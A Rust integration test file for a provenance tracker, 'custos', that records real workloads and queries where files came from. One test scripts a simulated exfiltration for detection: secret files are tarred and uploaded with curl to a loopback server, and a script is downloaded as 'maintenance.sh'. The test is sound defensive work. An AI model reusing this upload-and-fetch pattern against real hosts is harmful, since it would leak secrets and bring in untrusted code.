//! The whole pipeline on this machine's kernel: `custos collect` records a real
//! workload, `custos ingest` builds the graph, `custos query` answers where a
//! file came from. Nothing here is hand-written provenance.

use std::process::Command;

/// One collector runs at a time on a machine (it owns the pinned maps), and
/// tests in this file run in parallel threads: they take turns.
static COLLECTOR: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn custos(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_custos"))
        .args(args)
        .output()
        .expect("run custos")
}

fn ok(out: &std::process::Output) -> String {
    assert!(
        out.status.success(),
        "exit {:?}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn a_recorded_workload_answers_where_a_file_came_from() {
    let _turn = COLLECTOR.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    let events = dir.path().join("events.jsonl");
    let db = dir.path().join("custos.db");
    // src.txt -> sort -> mid.txt -> tr -> up.txt -> cat -> out.txt -> cp -> copy.txt -> mv -> final.txt
    // (cat and cp move the bytes with copy_file_range, not read/write)
    let workload = format!(
        "cd {d} && echo secret > src.txt && sort src.txt > mid.txt && tr a-z A-Z < mid.txt > up.txt && cat up.txt > out.txt && cp out.txt copy.txt && mv copy.txt final.txt"
    );
    ok(&custos(&[
        "collect",
        "-o",
        events.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        &workload,
    ]));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("final.txt")).unwrap(),
        "SECRET\n"
    );

    ok(&custos(&[
        "ingest",
        "--db",
        db.to_str().unwrap(),
        "-q",
        events.to_str().unwrap(),
    ]));
    let final_txt = format!("{d}/final.txt");
    let answer = ok(&custos(&[
        "query",
        "--db",
        db.to_str().unwrap(),
        "--json",
        "ancestors",
        &final_txt,
    ]));
    let v: serde_json::Value = serde_json::from_str(&answer).unwrap();
    let names: Vec<String> = v["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["name"].as_str().unwrap_or("").to_string())
        .collect();
    let has = |want: &str| names.iter().any(|n| n == want || n.ends_with(want));
    for want in [
        "/final.txt",
        "/copy.txt",
        "/out.txt",
        "/up.txt",
        "/mid.txt",
        "/src.txt",
        "/usr/bin/mv",
        "/usr/bin/cp",
        "/usr/bin/cat",
        "/usr/bin/tr",
        "/usr/bin/sort",
    ] {
        assert!(has(want), "ancestors of final.txt lack {want}: {names:?}");
    }
    // Every edge points from effect to cause, and the answer says whether it is complete.
    let kinds: Vec<&str> = v["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    for k in ["wasGeneratedBy", "used", "wasDerivedFrom", "wasInformedBy"] {
        assert!(kinds.contains(&k), "no {k} edge in {kinds:?}");
    }
    assert_eq!(
        v["complete"], true,
        "no loss happened, yet: {}",
        v["losses"]
    );

    // And the picture renders.
    let prefix = dir.path().join("final");
    ok(&custos(&[
        "graph",
        "--db",
        db.to_str().unwrap(),
        "-o",
        prefix.to_str().unwrap(),
        "ancestors",
        &final_txt,
    ]));
    let svg = std::fs::read_to_string(prefix.with_extension("svg")).unwrap();
    assert!(
        svg.contains("<svg") && svg.contains("final.txt"),
        "{}",
        &svg[..svg.len().min(300)]
    );
    assert!(std::fs::read_to_string(prefix.with_extension("dot"))
        .unwrap()
        .starts_with("digraph"));
}

#[test]
fn collect_writes_straight_into_the_store_and_an_archive() {
    let _turn = COLLECTOR.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    let db = dir.path().join("live.db");
    let zst = dir.path().join("live.jsonl.zst");
    let workload = format!("cd {d} && echo data > a.txt && sort a.txt > b.txt");
    let out = custos(&[
        "collect",
        "--db",
        db.to_str().unwrap(),
        "--archive",
        zst.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        &workload,
    ]);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{err}");
    assert!(
        out.stdout.is_empty(),
        "with --db and no -o, no events on stdout"
    );
    assert!(
        err.contains("stored in") && err.contains("archived to"),
        "{err}"
    );

    // The store answers without a separate ingest.
    let b = format!("{d}/b.txt");
    let answer = ok(&custos(&[
        "query",
        "--db",
        db.to_str().unwrap(),
        "--json",
        "ancestors",
        &b,
    ]));
    let v: serde_json::Value = serde_json::from_str(&answer).unwrap();
    let names: Vec<&str> = v["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|n| n["name"].as_str())
        .collect();
    assert!(
        names.iter().any(|n| n.ends_with("/a.txt"))
            && names.iter().any(|n| n.ends_with("/usr/bin/sort")),
        "{names:?}"
    );

    // The archive holds the same stream: ingesting it elsewhere gives the same events.
    let again = dir.path().join("from-archive.db");
    let out = custos(&[
        "ingest",
        "--db",
        again.to_str().unwrap(),
        "-q",
        zst.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let count = |db: &std::path::Path| {
        let out = Command::new("sqlite3")
            .arg(db)
            .arg("SELECT COALESCE(SUM(last_id - first_id + 1), 0) FROM event_ranges")
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    assert_eq!(count(&db), count(&again));
    assert_ne!(count(&db), "0");
}

/// A loopback HTTP server: takes one PUT (keeps its body) and serves it back
/// on one GET. Written to `port` once listening.
const HTTP_SERVER: &str = include_str!("fixtures/http_server.py");

/// Exfiltration and download over TCP, with curl's non-blocking connect
/// (-EINPROGRESS): the secret files reach the server's endpoint, and the
/// downloaded script comes from it, through the graph.
#[test]
fn network_flows_join_files_to_the_remote_endpoint() {
    let _turn = COLLECTOR.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    let events = dir.path().join("events.jsonl");
    let db = dir.path().join("custos.db");
    std::fs::write(dir.path().join("server.py"), HTTP_SERVER).unwrap();
    let workload = format!(
        "cd {d} && echo key > secret1 && echo pass > secret2 && tar cf archive.tar secret1 secret2 && \
         (/usr/bin/python3 server.py port upload.bin &) && \
         for i in $(seq 100); do [ -e port ] && break; sleep 0.05; done && p=$(cat port) && \
         curl -sf -H 'Expect:' -T archive.tar http://127.0.0.1:$p/up && \
         curl -sf -o download.sh http://127.0.0.1:$p/down && cp download.sh maintenance.sh && \
         for i in $(seq 100); do pgrep -f 'server.py port' >/dev/null || break; sleep 0.05; done"
    );
    ok(&custos(&[
        "collect",
        "-o",
        events.to_str().unwrap(),
        "--stats-interval",
        "0",
        "--",
        "sh",
        "-c",
        &workload,
    ]));
    let port = std::fs::read_to_string(dir.path().join("port")).unwrap();
    let endpoint = format!("127.0.0.1:{port}");
    assert_eq!(
        std::fs::read(dir.path().join("maintenance.sh")).unwrap(),
        std::fs::read(dir.path().join("archive.tar")).unwrap()
    );

    // curl's connect is non-blocking: the stream shows it in progress.
    let stream = std::fs::read_to_string(&events).unwrap();
    let connects: Vec<serde_json::Value> = stream
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|v| v["syscall"] == "connect" && v["addr"] == endpoint.as_str())
        .collect();
    assert!(
        connects.iter().any(|c| c["ret"] == -115),
        "no connect in progress to {endpoint}: {connects:?}"
    );

    ok(&custos(&[
        "ingest",
        "--db",
        db.to_str().unwrap(),
        "-q",
        events.to_str().unwrap(),
    ]));
    let names = |dir_: &str, file: &str| -> Vec<String> {
        let answer = ok(&custos(&[
            "query",
            "--db",
            db.to_str().unwrap(),
            "--json",
            dir_,
            &format!("{d}/{file}"),
        ]));
        let v: serde_json::Value = serde_json::from_str(&answer).unwrap();
        v["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["name"].as_str().unwrap_or("").to_string())
            .collect()
    };
    let from_secret = names("descendants", "secret1");
    assert!(
        from_secret.iter().any(|n| n.ends_with("/archive.tar")),
        "{from_secret:?}"
    );
    assert!(
        from_secret.contains(&endpoint),
        "the secret never reaches {endpoint}: {from_secret:?}"
    );
    let behind_script = names("ancestors", "maintenance.sh");
    assert!(
        behind_script.contains(&endpoint),
        "maintenance.sh does not come from {endpoint}: {behind_script:?}"
    );
    // The server's side: what it stored came in over an accepted connection.
    let behind_upload = names("ancestors", "upload.bin");
    assert!(
        behind_upload
            .iter()
            .any(|n| n.starts_with("127.0.0.1:") && *n != endpoint),
        "{behind_upload:?}"
    );
}

/// A flood the store cannot follow, recorded straight into it with small
/// bounds: memory stays bounded (the queues wait, the kernel's rings refuse
/// records), and every event is stored or accounted as lost in-band.
#[test]
fn a_flood_into_the_store_keeps_memory_bounded_and_accounts_every_event() {
    let _turn = COLLECTOR.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("flood.db");
    let flood = "for i in 1 2 3 4; do dd if=/dev/zero of=/dev/null bs=1 count=400000 2>/dev/null & done; wait";
    let out = Command::new("/usr/bin/time")
        .args([
            "-f",
            "maxrss_kb=%M",
            env!("CARGO_BIN_EXE_custos"),
            "collect",
            "--db",
        ])
        .arg(&db)
        .args([
            "--stats-interval",
            "0",
            "--events-ring-kb",
            "1024",
            "--attrs-ring-kb",
            "1024",
            "--critical-ring-kb",
            "1024",
        ])
        .args([
            "--output-buffer-mb",
            "4",
            "--sink-buffer-mb",
            "4",
            "--reorder-buffer-mb",
            "8",
            "--",
            "sh",
            "-c",
            flood,
        ])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{err}");
    let num = |after: &str| -> u64 {
        let at = err
            .find(after)
            .unwrap_or_else(|| panic!("no `{after}` in: {err}"))
            + after.len();
        err[at..]
            .trim_start()
            .split(|c: char| !c.is_ascii_digit())
            .next()
            .unwrap()
            .parse()
            .unwrap()
    };
    let (produced, dropped, unnumbered, peak_kb) = (
        num("produced "),
        num("+ dropped "),
        num("unnumbered "),
        num("maxrss_kb="),
    );
    let incomplete = num("incomplete ");
    let sql = |q: &str| -> u64 {
        let out = Command::new("sqlite3").arg(&db).arg(q).output().unwrap();
        String::from_utf8_lossy(&out.stdout)
            .trim()
            .parse()
            .unwrap_or(0)
    };
    let stored = sql("SELECT COALESCE(SUM(last_id - first_id + 1), 0) FROM event_ranges");
    // A refused attribute half loses no event: its event is stored, and the
    // store keeps a loss record of category `incomplete` for the attributes.
    let refused_in_band =
        sql("SELECT COALESCE(SUM(count), 0) FROM losses WHERE category NOT LIKE 'skipped%' AND category != 'incomplete'");
    let incomplete_in_band =
        sql("SELECT COALESCE(SUM(count), 0) FROM losses WHERE category = 'incomplete'");
    let skipped_in_band =
        sql("SELECT COALESCE(SUM(count), 0) FROM losses WHERE category LIKE 'skipped%'");
    eprintln!(
        "produced {produced}, stored {stored}, dropped {dropped} (in-band {refused_in_band}), incomplete {incomplete} (in-band {incomplete_in_band}), skipped {unnumbered} (in-band {skipped_in_band}), peak {} MiB",
        peak_kb >> 10
    );
    assert!(produced > 2_000_000, "the flood hardly ran: {err}");
    assert!(
        dropped > 0,
        "the store kept up with the flood; it proves nothing: {err}"
    );
    assert_eq!(
        produced,
        stored + dropped,
        "every numbered event is stored or counted lost"
    );
    assert_eq!(
        refused_in_band, dropped,
        "every refused record is in the store's loss records"
    );
    assert_eq!(
        incomplete_in_band, incomplete,
        "every event that lost its attributes is in the loss records"
    );
    // On a busy host the kernel may also skip a few syscalls: in-band too.
    assert!(
        skipped_in_band >= unnumbered,
        "skipped syscalls missing from the loss records"
    );
    // Budget: rings 2 x 3 MiB, bounds 4 + 4 + 8 MiB, SQLite's cache 64 MiB
    // and its mapped pages of the database (~100 MiB here), the program.
    // Unbounded, the same flood peaks near 1 GiB.
    assert!(peak_kb < 300 << 10, "peak RSS {} MiB", peak_kb >> 10);
}
